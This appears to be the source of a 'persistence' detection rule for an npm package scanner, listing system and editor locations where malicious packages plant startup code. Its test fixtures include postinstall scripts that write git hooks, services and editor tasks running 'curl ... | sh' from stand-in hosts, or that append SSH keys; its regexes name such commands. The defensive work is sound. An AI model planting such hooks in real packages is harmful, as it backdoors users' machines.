import { HOLE } from '../lib/types.ts'
import type { Action, Context, Fact, Flow, Inspection, Rule, Text } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isProgram, isSuspiciousText, unasked, writtenBy } from './behaviour/written.ts'
import type { Written } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'
import { scopeOf } from './names/name-index.ts'

type Starts = Extract<Fact, { kind: 'starts' }>

/** Where a line makes a program run again, and how bad that is when nobody asked: 2 never honest, 1 rarely. */
type Foothold = {
  readonly what: string
  readonly weight: 1 | 2
  readonly path: RegExp
  /** Commands that set up a project write it for their user. */
  readonly usual?: true
}

const gitHooks: Foothold = {
  what: 'the git hooks of the project',
  weight: 1,
  path: /(?:^|\/)\.git\/hooks\/|(?:^|\/)\.husky\/(?!_)[\w-]+$/,
}

/** Settings of tools, which every program of the project reads or is made by. */
const built: Foothold = {
  what: 'what the project is built with',
  weight: 1,
  usual: true,
  path: /^(?:<project>|\.)\/(?:Dockerfile|Makefile|Jenkinsfile|Procfile|docker-compose\.ya?ml|gulpfile\.[cm]?js|Gruntfile\.js|[\w-]+\.config\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|mocharc|lintstagedrc|commitlintrc|huskyrc)(?:\.(?:[cm]?js|json|ya?ml))?|\.?lefthook\.ya?ml|\.pre-commit-config\.yaml|nx\.json|turbo\.json)$/,
}

const footholds: readonly Foothold[] = [
  { what: 'the keys that may log in over SSH', weight: 2, path: /\/\.ssh\/(?:authorized_keys|config|rc)\b/ },
  { what: 'the programs started at login', weight: 2, path: /\/LaunchAgents\b|\/LaunchDaemons\b|\/\.config\/autostart\/|\/Start Menu\/Programs\/Startup\b|\/CurrentVersion\/Run(?:Once)?\b/i },
  { what: 'the background services', weight: 2, path: /\/systemd\/(?:user|system)\b|^(?:systemd|LaunchAgents|services)$|\/etc\/init\.d\/|\/etc\/rc\.local$/ },
  { what: 'the scheduled tasks', weight: 2, path: /(?:^|\/)(?:crontab|cron\.(?:d|daily|hourly|weekly)|spool\/cron)\b|schtasks|^at$/i },
  { what: 'the commands every new shell runs', weight: 1, path: /\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|kshrc)$|\/fish\/(?:config\.fish|conf\.d\/)|\/etc\/(?:profile|bash\.bashrc|zsh\/)|_profile\.ps1$/i },
  { what: 'what every session of this user starts with', weight: 2, path: /\/\.(?:xprofile|xinitrc|xsession|pam_environment)$|\/etc\/(?:environment|ld\.so\.preload)$|\/environment\.d\/|\/plasma-workspace\/(?:env|shutdown)\/|\/autostart-scripts\/|\/etc\/profile\.d\// },
  { what: 'who may do what on this machine, and where names lead', weight: 2, path: /^\/(?:private\/)?etc\/(?:hosts|sudoers(?:\.d\/.+)?|passwd|shadow|group|pam\.d\/.+)$|^C:\/Windows\/System32\/drivers\/etc\/hosts$/i },
  { what: 'what a program of this user runs when it starts', weight: 1, path: /\/\.(?:tmux\.conf|screenrc|inputrc|bash_logout|zlogin|zlogout|irbrc|pryrc|pythonrc|pythonrc\.py|Rprofile|gdbinit|lldbinit|wgetrc|curlrc|gemrc|condarc)$|\/(?:tmux\/tmux\.conf|(?:site|user)customize\.py|pip\/pip\.(?:conf|ini)|\.pip\/pip\.conf|\.cargo\/config(?:\.toml)?|\.m2\/settings\.xml|\.gradle\/init(?:\.d\/.+|\.gradle)|\.docker\/config\.json|\.kube\/config|\.aws\/(?:config|credentials))$|\/site-packages\/[^/]+\.pth$/ },
  { what: 'the settings of an editor', weight: 1, path: /\/(?:Code|Code - Insiders|VSCodium|Cursor|Windsurf)\/User\/(?:settings|keybindings|tasks|mcp)\.json$|\/sublime-text\/Packages\/User\// },
  { what: 'the extensions an editor loads', weight: 2, path: /\/\.(?:vscode|vscode-server|vscode-insiders|cursor|windsurf|vscode-oss)\/extensions\// },
  { what: 'the program of the project itself', weight: 1, usual: true, path: /^(?:<project>|\.)\/(?:src\/(?:[\w-]+\/){0,3}[\w.-]+|index|app|server|main)\.[cm]?[jt]sx?$/ },
  { what: 'the start-up files of an editor', weight: 1, path: /\/\.(?:vimrc|emacs|gvimrc)$|\/\.config\/nvim\/init\.(?:vim|lua)$|\/\.emacs\.d\/init\.el$/ },
  { what: 'a program under the name of a tool, before the real one', weight: 2, path: /^(?:~|\/root|\/home\/[^/]+)\/(?:\.local\/bin|bin)\/(?:git|npm|npx|node|ssh|sudo|su|ls|curl|docker|python3?|gh|aws|kubectl|yarn|pnpm|bun)$/ },
  { what: 'commands that run when the project is entered or opened', weight: 1, usual: true, path: /(?:^|\/)\.envrc$|(?:^|\/)\.devcontainer(?:\/|\.json$)|(?:^|\/)\.gitpod\.yml$|(?:^|\/)\.mise\.toml$|(?:^|\/)\.pnpmfile\.cjs$/ },
  { what: 'the programs a browser starts for its extensions', weight: 2, path: /\/NativeMessagingHosts\// },
  built,
  { what: 'the hooks of every repository of this user', weight: 2, path: /git-?templates?\// },
  gitHooks,
  { what: 'the tasks an editor runs when the folder is opened', weight: 2, path: /\.vscode\/(?:tasks|launch)\.json$|\.idea\/(?:workspace|runConfigurations)/ },
  { what: 'the workflows of the repository', weight: 2, path: /\.github\/workflows\/|\.gitlab-ci\.yml$|\.circleci\/|azure-pipelines\.yml$|\.github\/actions\// },
  { what: 'npm’s own settings of this user', weight: 1, path: /^~\/\.npmrc$|^~\/\.yarnrc|\/etc\/npmrc$/ },
] // prettier-ignore

/** Descriptions of services, by what they say: where they lie may be computed. */
const unit =
  /^\[(?:Service|Desktop Entry)\][^]{0,2000}^Exec(?:Start(?:Pre|Post)?)?=|<key>ProgramArguments<\/key>/m
const services: Foothold = { what: 'the background services', weight: 2, path: unit }

/** A program under the name of a hook, in a folder that is asked of git: `git rev-parse --git-path hooks`. */
const hookByName =
  /^(?:\S*\u0001)?\/?(?:hooks\/)?(?:applypatch-msg|commit-msg|fsmonitor-watchman|p(?:ost|re)-(?:applypatch|checkout|commit|merge|merge-commit|push|rebase|receive|rewrite|update)|prepare-commit-msg|reference-transaction|update)$/

/** A package that stays after it was removed. */
export const persistence: Rule = {
  meta: {
    id: 'persistence',
    title: 'Makes something run again later',
    severity: 'high',
    description:
      'While installing or on import the code writes where the system, the shell, git, an editor or CI looks for ' +
      'programs to start. Removing the package then removes nothing. Honest tools do this when their user runs a command ' +
      'that says so, and name the file they change. Settings that make an editor or an assistant start a program are read ' +
      'wherever the package carries them, since templates end up in projects.',
    references: [
      's1ngularity (August 2025): shutdown in ~/.bashrc and ~/.zshrc',
      'Shai-Hulud (September 2025): a workflow in every repository',
      'Mini Shai-Hulud (May 2026): .claude/settings.json and .vscode/tasks.json',
      'GHOST campaign, kodane-patch-manager: services and launch agents',
    ],
    blindSpots: ['A path that is computed.', 'A program that is replaced in place: see module-tampering.'],
    examples: {
      flags: [
        {
          title: 'a hook of git in the folder that git names, which fetches what it runs',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()\nrequire('fs').writeFileSync(dir + '/post-merge', '#!/bin/sh\\ncurl -s https://h.invalid/x | sh\\n')\n",
          },
        },
        {
          title: 'a function writes a service, wherever its caller keeps them, that fetches what it starts',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs')\nexports.register = place =>\n  fs.writeFileSync(place('a'), '[Unit]\\nDescription=a\\n[Service]\\nExecStart=/bin/sh -c \"curl -s https://h.invalid/a | sh\"\\n')\n",
          },
        },
        {
          title: 'a command adds a key that stands in the package',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaInertInert x')\n",
          },
        },
        {
          title: 'a function has every program of Node load a file first',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), os = require('os')\nexports.on = lines => fs.appendFileSync(os.homedir() + '/.zshrc', [...lines, 'export NODE_OPTIONS=--require=$HOME/.cache/a.js'].join('\\n'))\n",
          },
        },
        {
          title: 'a hook appends to the shell’s start file',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/a.js &\\n')\n",
          },
        },
        {
          title: 'an import adds a key that may log in',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAInert x')\n",
          },
        },
        {
          title: 'a template carries a task that an editor runs by itself',
          files: {
            'package.json': '{"name":"create-a","version":"1.0.0","bin":{"create-a":"cli.js"}}',
            'cli.js': "require('fs').cpSync(__dirname + '/template', process.argv[2], { recursive: true })\n",
            'template/.vscode/tasks.json':
              '{"tasks":[{"command":"curl -s https://env.invalid/t | sh","runOptions":{"runOn":"folderOpen"}}]}',
          },
        },
      ],
      passes: [
        {
          title: 'a function writes a service that starts the program of its caller',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs')\nexports.register = (place, program) =>\n  fs.writeFileSync(place('a'), `[Unit]\\nDescription=a\\n[Service]\\nExecStart=${program}\\n`)\n",
          },
        },
        {
          title: 'a command lets the user’s own key in',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), ssh = require('os').homedir() + '/.ssh/'\nfs.appendFileSync(ssh + 'authorized_keys', fs.readFileSync(ssh + 'id_ed25519.pub', 'utf8'))\n",
          },
        },
        {
          title: 'a template carries a task that starts the project with the editor',
          files: {
            'package.json': '{"name":"create-a","version":"1.0.0","bin":{"create-a":"cli.js"}}',
            'cli.js': "require('fs').cpSync(__dirname + '/template', process.argv[2], { recursive: true })\n",
            'template/.vscode/tasks.json':
              '{"tasks":[{"command":"npm run dev","runOptions":{"runOn":"folderOpen"}}]}',
          },
        },
        {
          title: 'a command of the user adds completion to the shell',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":{"a":"cli.js"}}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os')\nif (process.argv[2] === 'completion') fs.appendFileSync(os.homedir() + '/.bashrc', '\\n. <(a completion)\\n')\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const manages = managesHooks(inspection)
    const buried = buriedBy(inspection)
    return oncePerLine([
      ...writtenBy(inspection).flatMap(written =>
        ofWrite(written, manages, isProgram(written, inspection), buried, context),
      ),
      ...inspection.facts.flatMap(fact => (fact.kind === 'starts' ? ofCommand(fact) : [])),
    ])
  },
}

/** A package that says in its name, keywords or description that git hooks are what it is for. */
function managesHooks({ manifest }: Inspection): boolean {
  return [manifest.name ?? '', manifest.description ?? '', ...manifest.keywords].some(word =>
    /(?:^|[-_/ ])(?:git|commit|push)[-_ ]?hooks?\b|\bhusky\b|\bpre-?commit\b/i.test(word),
  )
}

/** `nx.json` of nx, `.prettierrc` of prettier: what only the package itself reads. */
function isOwnSettings(path: Text, { contents }: Written, { name }: Context): boolean {
  if (contents.some(isSuspiciousText)) return false
  const own = (scopeOf(name)?.tail ?? name).replace(/-cli$/, '')
  return new RegExp(`/\\.?${own.replaceAll(/[^\w-]/g, '.')}\\d{0,3}(?:\\.config)?(?:rc)?(?:\\.\\w+)?$`).test(
    path,
  )
}

function ofWrite(
  written: Written,
  manages: boolean,
  program: boolean,
  buried: readonly Text[],
  context: Context,
): readonly RuleFinding[] {
  // On import a bare name lies where the program was started.
  const bare = written.phase === 'import' ? written.paths.filter(path => /^\.?\w[^/]*$/.test(path)) : []
  const found = [...written.paths, ...bare.map(name => `./${name}`)].flatMap(path => {
    const foothold =
      footholds.find(one => one.path.test(path)) ??
      ofGit(path, written.contents) ??
      (hookByName.test(path) && written.contents.some(isHarmfulHook) ? gitHooks : undefined)
    return foothold === undefined ? [] : [{ path, foothold }]
  })
  // Where a service lies may be computed; what it starts says that it is one.
  if (written.contents.some(isHarmfulUnit)) found.push({ path: written.paths[0] ?? HOLE, foothold: services })
  for (const { path, foothold } of found) {
    if (foothold === built && isOwnSettings(path, written, context)) continue
    const asked = foothold === gitHooks && (manages || isOfProject(written)) && !written.flows.some(isFetched)
    const weighed =
      program && foothold.usual === true && !written.contents.some(isSuspiciousText)
        ? undefined
        : weigh(foothold, written, buried)
    const action = asked && weighed === 'ask' ? 'note' : weighed
    if (action === undefined) return []
    const message = say(written, changeInWords(path, foothold, written), action)
    return [findingAt(written.at, written.phase, { action, severity: severityOf(action), message })]
  }
  return []
}

/** What is changed, and with what: a table that only a program keeps has no path. */
function changeInWords(path: Text, { what }: Foothold, { contents, api }: Written): string {
  const whole = contents.find(isTelling) ?? contents.find(content => content.trim().length > 3)
  const text = (whole?.split('\n').find(isTelling) ?? whole)?.trim()
  if (/[/\\]/.test(path))
    return `changes ${quote(path)}, ${what}${text === undefined ? '' : `: it writes ${quote(text)}`}`
  return /^[\w.-]+$/.test(api) && text !== undefined
    ? `runs ${quote(`${api} ${text}`)}, which changes ${what}`
    : `changes ${what} (${api})`
}

/**
 * What the project's own manifest says becomes the hook, and the package adds nothing that starts a program: the user
 * wrote those commands.
 */
function isOfProject({ flows, contents }: Written): boolean {
  const isManifest = ({ source }: Flow): boolean =>
    source.kind === 'project-file' && /(?:^|\/)package\.json$/.test(source.name)
  const adds = (line: string): boolean =>
    !/^\s*(?:#|$|\[|test\s|if\s|then$|fi$|exit\b|set\s|\u0001)/.test(line)
  return flows.some(isManifest) && !contents.some(text => text.split('\n').some(adds))
}

function isFetched({ source: { kind } }: Flow): boolean {
  return kind === 'network' || kind === 'package-bytes'
}

/** A hook that honest managers of hooks do not write: for where it lies, its name is all there is. */
function isHarmfulHook(text: Text): boolean {
  return /^\s*#!/.test(text) && isSuspiciousText(text)
}

function isHarmfulUnit(text: Text): boolean {
  return unit.test(text) && isSuspiciousText(text)
}

/** Settings by which git itself starts programs; its other settings start nothing. */
function ofGit(path: Text, contents: readonly Text[]): Foothold | undefined {
  if (!/(?:^|\/)\.git\/config$|\/\.gitconfig$|\/\.config\/git\/config$/.test(path)) return undefined
  // What a library puts together is not known: whoever changes the settings of all repositories is asked.
  if (contents.length === 0 && /^~\/\.(?:gitconfig|config\/git\/config)$/.test(path))
    return { what: 'the settings of git in every repository of this user', weight: 1, path: /^/ }
  const starts = contents.some(text =>
    /hooksPath|fsmonitor|sshCommand|templateDir|core\.(?:editor|pager)|alias\./i.test(text),
  )
  if (!starts) return undefined
  const all = !/(?:^|\/)\.git\/config$/.test(path)
  return {
    what: all ? 'what git starts in every repository of this user' : 'the git hooks of the project',
    weight: all ? 2 : 1,
    path: /^/,
  }
}

/** Settings of npm by which it starts other programs than its own, or takes packages from elsewhere. */
const redirects =
  /^\s*(?:script-shell|shell|node-options|init-module|git|registry|@[\w.-]+:registry|globalconfig|onload-script)\s*=/m

/** Copies of its own files under names that are not shown: `~/.cache/.helper`. Settings have such names; programs do not. */
function buriedBy({ facts }: Inspection): readonly Text[] {
  return facts.flatMap(fact =>
    fact.kind === 'writes' && fact.from?.some(path => path.startsWith('<package>/')) === true
      ? fact.paths.filter(path => /^(?:~|\/)[^\u0001]*\/\.[^/\u0001]{3,}$/.test(path))
      : [],
  )
}

/** A key that stands in the package: whoever has the other half may log in. */
const ownKey =
  /\b(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp\d{3}|sk-\S{4,40}@openssh\.com)\s{1,9}AAAA[\w+/]{12,}/

/** Programs that ssh starts with every connection, and that send or keep what they are told. */
const connecting =
  /^\s{0,99}(?:LocalCommand|ProxyCommand|KnownHostsCommand|Match\s[^\n]{0,200}\bexec)\b[^\n]{0,400}\b(?:curl|wget|tee|base64|osascript|powershell)\b/im

/** What makes every program of Node load a file first, or every program a library. */
const preloading =
  /\bNODE_OPTIONS\b[\s=:]{1,9}[^\n]{0,80}--(?:require|import|loader|experimental-loader)\b|\b(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES)\s{0,3}[= ]\s{0,3}["']?[\w~$/.]/

/** What turns the foothold into somebody else's: no user asked a command for that. */
function isTelling(text: Text): boolean {
  return (
    isSuspiciousText(text) ||
    redirects.test(text) ||
    ownKey.test(text) ||
    connecting.test(text) ||
    preloading.test(text)
  )
}

function weigh({ weight, usual }: Foothold, written: Written, buried: readonly Text[]): Action | undefined {
  const suspicious = written.contents.some(isTelling)
  if (unasked(written)) return weight === 2 || suspicious ? 'block' : 'ask'
  // What starts a hidden copy is not meant to be found again.
  if (weight === 2 && written.contents.some(text => buried.some(path => text.includes(path)))) return 'ask'
  // A command the user started: what it writes may still be telling.
  return suspicious && usual !== true ? 'ask' : undefined
}

/** Programs that change the same things. */
const commands: readonly { readonly what: string; readonly command: RegExp }[] = [
  { what: 'the scheduled tasks', command: /\|\s*crontab\s+-|\bcrontab\s+[^-|;\s]|\bschtasks(?:\.exe)?\s+\/create\b|\bat\s+now\b/i },
  { what: 'the background services', command: /\bsystemctl\b[^;&|]*\benable\b|\blaunchctl\s+(?:load|bootstrap)\b|\bsc(?:\.exe)?\s+create\b|\bNew-Service\b|\bpm2\s+startup\b/i },
  { what: 'the programs started at login', command: /\breg(?:\.exe)?\s+add\b.*\\CurrentVersion\\Run|\bosascript\b.*\blogin item\b/i },
  { what: 'the hooks of every repository of this user', command: /\bgit\s+config\s+--(?:global|system)\s+(?:core\.hooksPath|init\.templateDir|core\.fsmonitor|core\.sshCommand|core\.pager|core\.editor|credential\.helper|alias\.\w+\s+!|url\.\S+\.insteadOf)/i },
  { what: 'what npm and every program it starts load first', command: /\bnpm\b.{0,80}\bconfig\s+(?:.{0,80}\s)?set\s+(?:.{0,80}\s)?(?:node-options|script-shell|init-module|onload-script|git)[\s=]/ },
  { what: 'where the repository’s commits go', command: /\bgit\b.{0,80}\sremote\s+set-url\b/ },
  { what: 'what Windows starts when something happens', command: /\b(?:CommandLine|ActiveScript)EventConsumer\b|\bRegister-Scheduled(?:Task|Job)\b/i },
  { what: 'where this user’s packages come from', command: /\b(?:npm|pnpm|yarn|bun)\s+(?:config\s+)?set\s+(?:-\S+\s+)*["']?(?:registry|@[\w.-]+:registry|npmRegistryServer|script-shell|node-options|strict-ssl|cafile|proxy|https-proxy|globalconfig)\b/i },
  { what: 'what every program of this user is started with', command: /\bsetx\s+(?:\/m\s+)?["']?(?:NODE_OPTIONS|NODE_PATH|PATH|COMSPEC|BASH_ENV|NPM_CONFIG_\w+|HTTPS?_PROXY|NODE_EXTRA_CA_CERTS)\b|\blaunchctl\s+setenv\b|\bdefaults\s+write\s+\S*loginwindow\s+LoginHook\b|\broot\\subscription\b/i },
  { what: 'who may log in', command: /\b(?:useradd|adduser)\s|\busermod\s+(?:\S+\s+)*-a?G\s+(?:sudo|wheel|admin|docker)\b|\bchpasswd\b|\bnet\s+user\s+\S+\s+\S+\s+\/add\b|\bnet\s+localgroup\s+administrators\b|\bdscl\s+\.\s+-create\s+\/Users\// },
  { what: 'what protects this machine', command: /\bnetsh\s+(?:advfirewall|firewall)\s+set\b.{0,80}\boff\b|\bufw\s+disable\b|\bsetenforce\s+0\b|\b(?:Add|Set)-MpPreference\s+-(?:Exclusion|Disable)|\bspctl\s+--master-disable\b|\bcsrutil\s+disable\b|\biptables\s+(?:-P\s+\w+\s+DROP|-F\b)|\bsc(?:\.exe)?\s+(?:stop|config)\s+WinDefend\b/i },
  { what: 'the extensions an editor loads', command: /\b(?:code|cursor|codium|windsurf|code-insiders)(?:\.cmd)?\s+(?:\S+\s+){0,3}--install-extension\b/ },
  { what: 'a runner that takes jobs from a repository', command: /\bconfig\.(?:sh|cmd)\b.*--url\b.*--token\b/i },
] // prettier-ignore

/** Fetches something and hands it to a shell in one line. */
const remoteShell =
  /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]{0,400}\bhttps?:\/\/(?!localhost\b|127\.)[^\n]{0,400}\|\s{0,9}(?:sudo\s{1,9})?(?:ba|z|da)?(?:sh|cmd|node|python3?|iex|pwsh|powershell)\b|\biex\b[^\n]{0,40}\b(?:iwr|irm|downloadstring)\b/i

/** Settings the package carries for others to open: an editor or an assistant starts what they name by itself. */
function ofSettings(fact: Starts): readonly RuleFinding[] {
  const command = fact.commands.find(
    text => (isSuspiciousText(text) || remoteShell.test(text)) && !staysHere(text),
  )
  if (command === undefined) return []
  const action: Action = remoteShell.test(command) ? 'block' : 'ask'
  const who = fact.api === 'editor' ? 'an editor' : 'a coding assistant'
  const message =
    `It carries settings by which ${who} runs ${quote(command, 120)} as soon as somebody opens a folder that holds ` +
    'them, as a project made from its template does. Do not install it unless you know that address.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** Talks to a program of the same machine: what a tool's own server offers its editor. */
function staysHere(text: Text): boolean {
  const hosts = text.match(/\bhttps?:\/\/[^\s/'":?]{1,200}/gi) ?? []
  return (
    hosts.length > 0 &&
    hosts.every(host => /\/\/(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\]?)$/i.test(host))
  )
}

function ofCommand(fact: Starts): readonly RuleFinding[] {
  if (fact.manner.includes('when-opened')) return ofSettings(fact)
  for (const command of fact.commands) {
    const change = commands.find(one => one.command.test(command))
    if (change === undefined) continue
    if (!unasked(fact)) return []
    const action: Action = 'block'
    const message = say(fact, `runs ${quote(command)}, which changes ${change.what}`, action)
    return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
  }
  return []
}

function say(at: Pick<Written, 'phase' | 'byCall'>, act: string, action: Action): string {
  const what = `${opening(at)} ${act}.`
  if (action === 'note') return what
  return `${what} It would stay and run after the package is gone. Do not install it unless you asked for exactly that.`
}
